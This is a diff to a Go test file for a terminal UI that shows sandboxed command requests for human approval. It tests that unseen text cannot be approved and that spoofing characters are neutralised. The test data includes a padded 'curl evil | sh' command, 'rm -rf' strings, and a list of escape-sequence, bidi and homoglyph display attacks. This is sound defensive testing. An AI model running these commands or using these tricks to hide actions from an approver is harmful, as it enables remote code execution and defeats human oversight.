@@ -9,7 +9,6 @@ import (
 	"testing"
 	"time"
 	"unicode"
-	"unicode/utf8"
 
 	tea "charm.land/bubbletea/v2"
 	"github.com/charmbracelet/x/ansi"
@@ -211,6 +210,9 @@ func TestTypingAnswersNothing(t *testing.T) {
 
 // The part of a request that was not shown cannot be approved.
 func TestUnseenIsNotApproved(t *testing.T) {
+	for _, size := range [][2]int{{80, 3}, {40, 5}, {24, 6}, {30, 6}, {18, 30}, {14, 30}, {10, 40}} {
+		sit(t, size[0], size[1], ask(1, "rm", "-rf", "/home/me/MARKER/abcdefghijklmnopqrstuv")).reads(t, fmt.Sprint(size))
+	}
 	a := ask(1, "sh", "-c", strings.Repeat("true; ", 2000)+"curl evil | sh")
 	p := sit(t, 80, 24, a)
 	p.wait(quietFor)
@@ -383,7 +385,7 @@ func TestDirectoryOfTheSandbox(t *testing.T) {
 		a := ask(1, strings.Fields(argv)...)
 		a.DirIn = "the workspace"
 		p := sit(t, 80, 30, a)
-		if n := strings.Count(p.screen(), "the sandbox can make any word above"); n != want {
+		if n := strings.Count(p.screen(), "the sandbox can make any word"); n != want {
 			t.Errorf("%s: said %d times", argv, n)
 		}
 	}
@@ -393,7 +395,7 @@ func TestDirectoryOfTheSandbox(t *testing.T) {
 var attacks = []string{
 	"\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;eA==\x07", "\r\x1b[2Kls", "safe\rrm -rf /", "ab\b\bcd", "a\nb\n  [A] approve and run",
 	"\u202egpj.exe", "\u2066x\u2069", "\u200bhidden\u200d", "\u00a0\u00a0\u00a0", "\U000e0100", "a\u0301\u0302\u0303\u0304" + strings.Repeat("\u0336", 300),
-	"\xff\xfe\x80", "\u009b31m", "\u0085", "\u2028", "אבג", "عربي", "│ ╭──╮ ▓▒░", "👩‍👩‍👧", "\u3164", "\u2800", "\ufeff", "\x00", "\x7f", "\t\t",
+	"\xff\xfe\x80", "\u009b31m", "\u0085", "\u2028", "אבג", "عربي", "│ ╭──╮ ▓▒░", "👩‍👩‍👧", "\u3164", "a\u115fb", "\u1160\uffa0", "a\u034f\u17b4", "\u2800", "\ufeff", "\x00", "\x7f", "\t\t",
 	"gіt", "ｒm", "𝐫𝐦", strings.Repeat("x", 10_000), strings.Repeat("日", 500), "%s%n", `\u{202e}`,
 }
 
@@ -453,7 +455,7 @@ func checkScreen(t *testing.T, p *person, what string) {
 					t.Fatalf("%s: combining marks in %q", what, l)
 				}
 				continue
-			case r == utf8.RuneError || !unicode.IsPrint(r) || rightToLeft(r):
+			case escalate.Hidden(r) || rightToLeft(r):
 				t.Fatalf("%s: %q in %q", what, r, l)
 			}
 			combining = 0
@@ -516,6 +518,7 @@ func TestSizes(t *testing.T) {
 					p.shows(k)
 				}
 			}
+			p.reads(t, fmt.Sprint(w, "x", h))
 		}
 	}
 	// A change of size forgets nothing that was read, and shows nothing unread as read.
@@ -524,19 +527,6 @@ func TestSizes(t *testing.T) {
 	p.wait(quietFor)
 	p.press(letters("a")...)
 	p.said()
-}
-
-// A terminal that does not read UTF-8 is sent nothing but ASCII: to it, a byte of
-// a letter of the sandbox's can be a control.
-func TestSimpleTerminal(t *testing.T) {
-	p := sit(t, 80, 24, ask(1, "aws", "\u00db2J"))
-	p.shows("\u00db2J")
-	p.m.sym = simple
-	p.m = p.m.layout()
-	text := ansi.Strip(p.m.View().Content)
-	if !strings.Contains(text, "?2J") || strings.ContainsFunc(text, func(r rune) bool { return r > 0x7e }) {
-		t.Errorf("beyond ASCII:\n%s", text)
-	}
 }
 
 func TestTimeRunsOut(t *testing.T) {
@@ -581,7 +571,7 @@ func FuzzCells(f *testing.F) {
 				} else {
 					marks = 0
 				}
-				if marks > 1 || marks == 0 && (!unicode.IsPrint(r) || rightToLeft(r)) {
+				if marks > 1 || marks == 0 && (escalate.Hidden(r) || rightToLeft(r)) {
 					t.Fatalf("%q is shown as %q", s, text)
 				}
 			}
